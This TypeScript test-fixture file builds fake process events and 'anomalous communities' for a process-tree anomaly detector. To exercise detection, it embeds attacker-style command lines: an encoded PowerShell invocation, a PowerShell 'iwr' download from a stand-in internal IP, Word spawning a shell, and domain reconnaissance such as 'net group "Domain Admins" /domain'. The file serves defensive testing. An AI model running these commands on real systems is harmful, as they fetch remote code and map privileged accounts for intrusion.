/**
 * Hand-built events and communities for store tests. Everything is deterministic (ids derive
 * from the inputs), so two stores fed the same fixtures must give the same answers.
 */
import { createHash } from 'node:crypto';
import type {
  AnomalousCommunity,
  CommunityEdge,
  EdgePrevalence,
  SuppressionRule,
  TimeWindow,
} from '../../../common/types/community';
import type { ProcessEvent } from '../../../common/types/process_event';
import type { ScoredEvent } from '../../../common/types/scoring';
import { commandLineTemplate } from '../../lib/detection/command_line_template';
import { processName } from '../../lib/detection/names';

export interface EventSpec {
  id: string;
  time: string;
  host?: string;
  /** Child image: a bare name or a full path. */
  child?: string;
  parent?: string;
  cmd?: string;
  parentCmd?: string;
  user?: string;
  entityId?: string;
  parentEntityId?: string;
}

export function fixtureEvent(spec: EventSpec): ProcessEvent {
  const child = spec.child ?? 'cmd.exe';
  const parent = spec.parent ?? 'explorer.exe';
  const isPath = (s: string): boolean => s.includes('\\') || s.includes('/');
  return {
    '@timestamp': spec.time,
    host: { name: spec.host ?? 'ws01.example.local' },
    event: { category: ['process'], type: ['start'], action: 'start', id: spec.id, code: '1' },
    process: {
      entity_id: spec.entityId ?? `ent-${spec.id}`,
      pid: 1000,
      name: isPath(child)
        ? child.slice(Math.max(child.lastIndexOf('\\'), child.lastIndexOf('/')) + 1)
        : child,
      executable: isPath(child) ? child : undefined,
      command_line: spec.cmd,
      start: spec.time,
      parent: {
        entity_id: spec.parentEntityId ?? `pent-${spec.id}`,
        name: isPath(parent) ? undefined : parent,
        executable: isPath(parent) ? parent : undefined,
        command_line: spec.parentCmd,
      },
    },
    user: spec.user === undefined ? {} : { name: spec.user, domain: 'EXAMPLE' },
    problemchild: { sources: [{ kind: 'file', file: 'fixture.ndjson', line: 1, format: 'ecs' }] },
  };
}

/** A small, varied event set over two hours, several hosts (some differing only in case). */
export function fixtureEvents(): ProcessEvent[] {
  const hosts = [
    'WS01.example.local',
    'ws02.example.local',
    'srv01.example.local',
    'ws01.EXAMPLE.local',
    'dc01',
  ];
  const steps: Array<[string, string, string | undefined]> = [
    ['explorer.exe', 'cmd.exe', 'cmd.exe /c whoami'],
    ['explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\alice\\Desktop'],
    ['C:\\Windows\\explorer.exe', 'CMD.EXE', 'cmd.exe /c dir C:\\Users\\bob\\Desktop'],
    ['services.exe', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
    ['services.exe', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k LocalService -p'],
    [
      'winword.exe',
      'powershell.exe',
      'powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    ],
    ['cmd.exe', 'whoami.exe', 'whoami /all'],
    ['cmd.exe', 'net.exe', 'net user admin /domain'],
    ['services.exe', 'svchost.exe', undefined],
  ];
  const t0 = Date.parse('2024-03-01T10:00:00.000Z');
  const out: ProcessEvent[] = [];
  for (let i = 0; i < 90; i++) {
    const [parent, child, cmd] = steps[(i * 7) % steps.length] as [
      string,
      string,
      string | undefined,
    ];
    out.push(
      fixtureEvent({
        id: `ev-${String(i).padStart(4, '0')}`,
        // Every 80 s, with a few identical timestamps to exercise tie ordering.
        time: new Date(
          t0 + Math.floor(i / 3) * 240_000 + (i % 3 === 2 ? 0 : (i % 3) * 80_000),
        ).toISOString(),
        host: hosts[i % hosts.length] as string,
        parent,
        child,
        cmd,
        user: i % 4 === 0 ? 'alice' : 'SYSTEM',
      }),
    );
  }
  return out;
}

function hash(parts: readonly string[]): string {
  return createHash('sha256').update(parts.join('\n')).digest('hex').slice(0, 32);
}

const ZERO_PREVALENCE = (
  parentName: string,
  childName: string,
  template: string,
): EdgePrevalence => ({
  pair: { parentName, childName, pairCount: 0, parentTotal: 0, distinctHosts: 0, probability: 0 },
  cmdline: {
    processName: childName,
    template,
    templateCount: 0,
    processTotal: 0,
    distinctHosts: 0,
    probability: 0,
  },
  pairCommonness: 0,
  cmdlineCommonness: 0,
  rarity: 1,
  text: `${parentName} → ${childName} never seen`,
});

export interface CommunitySpec {
  host?: string;
  window?: TimeWindow;
  /** Events of the community (default: three events on `host` inside the window). */
  events?: ProcessEvent[];
  score?: number;
  maxAnomaly?: number;
  rank?: number;
  /** Distinguishes otherwise identical communities (part of the id). */
  tag?: string;
  techniques?: string[];
}

/** A well-formed community; its id is a hash of host, window, tag and event ids. */
export function fixtureCommunity(spec: CommunitySpec = {}): AnomalousCommunity {
  const host = spec.host ?? 'ws01.example.local';
  const window = spec.window ?? {
    start: '2024-03-01T10:00:00.000Z',
    end: '2024-03-01T10:45:00.000Z',
  };
  const tag = spec.tag ?? 'c';
  const t0 = Date.parse(window.start);
  const events =
    spec.events ??
    [
      ['winword.exe', 'cmd.exe', 'cmd.exe /c whoami /all'],
      ['cmd.exe', 'powershell.exe', `powershell.exe -NoP -c "iwr http://10.0.0.5/${tag}"`],
      ['powershell.exe', 'net.exe', 'net group "Domain Admins" /domain'],
    ].map(([parent, child, cmd], i) =>
      fixtureEvent({
        id: `${tag}-ev-${i}`,
        time: new Date(t0 + (i + 1) * 60_000).toISOString(),
        host,
        parent,
        child,
        cmd,
        parentCmd:
          i === 0 ? '"C:\\Program Files\\Microsoft Office\\WINWORD.EXE" /n report.docm' : undefined,
        user: 'alice',
      }),
    );
  const score = spec.score ?? 0.9;
  const maxAnomaly = spec.maxAnomaly ?? score;
  const scored: ScoredEvent[] = events.map((event, i) => ({
    event,
    score: i === 0 ? maxAnomaly : maxAnomaly / 2,
    scoreSource: 'model',
    topFeatures: [
      {
        feature: `parent→child: ${processName(event.process.parent.name)}→${event.process.name}`,
        contribution: 0.3,
      },
    ],
  }));
  const edges: CommunityEdge[] = scored.map((s) => {
    const e = s.event;
    const parentName = processName(e.process.parent.name ?? e.process.parent.executable);
    const childName = processName(e.process.name);
    const template = commandLineTemplate(e.process.command_line);
    return {
      eventId: e.event.id,
      eventIds: [e.event.id],
      timestamp: e['@timestamp'],
      parentEntityId: e.process.parent.entity_id ?? '',
      childEntityId: e.process.entity_id,
      parentName,
      childName,
      parentCommandLine: e.process.parent.command_line,
      commandLine: e.process.command_line,
      commandLineTemplate: template,
      user: e.user.name,
      score: s.score,
      anomaly: s.score,
      prevalence: ZERO_PREVALENCE(parentName, childName, template),
      topFeatures: s.topFeatures,
      techniques: spec.techniques ?? ['T1059.003'],
    };
  });
  const entityIds = [
    ...new Set(events.flatMap((e) => [e.process.entity_id, e.process.parent.entity_id ?? ''])),
  ].sort();
  const times = events.map((e) => e['@timestamp']).sort();
  const techniques = (spec.techniques ?? ['T1059.003']).map((id) => ({
    id,
    name: `technique ${id}`,
    eventIds: events.map((e) => e.event.id),
    reasons: ['fixture'],
  }));
  return {
    id: hash([host, window.start, window.end, tag, ...events.map((e) => e.event.id)]),
    host,
    window,
    rank: spec.rank ?? 1,
    score,
    maxAnomaly,
    maxEdgeScore: maxAnomaly,
    drivingEdge: edges[0] as CommunityEdge,
    edges,
    events: scored,
    entityIds,
    firstSeen: times[0] ?? window.start,
    lastSeen: times[times.length - 1] ?? window.start,
    users: ['EXAMPLE\\alice'],
    techniques,
    suppressed: [],
    chain: edges.map((e) => e.childName).join(' → '),
  };
}

export function fixtureRule(over: Partial<SuppressionRule> & { id: string }): SuppressionRule {
  return {
    kind: 'pair',
    parentName: 'services.exe',
    childName: 'svchost.exe',
    createdBy: 'analyst',
    createdAt: '2024-03-02T09:00:00.000Z',
    reason: 'routine',
    ...over,
  };
}
